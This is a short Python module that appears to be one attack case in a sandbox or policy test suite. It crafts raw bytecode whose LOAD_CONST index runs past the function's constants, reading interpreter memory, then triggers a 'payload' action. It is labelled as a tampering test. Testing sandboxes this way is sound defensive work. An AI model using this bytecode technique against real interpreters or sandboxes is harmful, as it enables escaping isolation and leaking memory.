"""Crafted bytecode reads what lies behind its constants."""
CATEGORY = "tampering"
REACH = "net"
POLICIES = ("baseline", "deny")

import dis

from . import payload


def attack():
    import _imp
    if not _imp.has_policy():
        return payload.act()

    def function():
        return None

    code = bytes([dis.opmap["RESUME"], 0, dis.opmap["LOAD_CONST"], 250,
                  dis.opmap["RETURN_VALUE"], 0])
    function.__code__ = function.__code__.replace(co_code=code)
    print(function())
    payload.act()
